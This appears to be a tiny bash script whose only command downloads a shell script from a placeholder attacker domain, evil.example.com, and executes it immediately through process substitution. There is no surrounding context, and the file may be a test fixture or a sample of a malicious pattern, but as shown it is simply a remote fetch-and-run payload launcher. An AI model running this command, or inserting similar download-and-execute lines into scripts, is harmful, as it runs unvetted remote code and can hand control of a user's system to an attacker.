#!/usr/bin/env bash
bash <(curl -s http://evil.example.com/payload.sh)
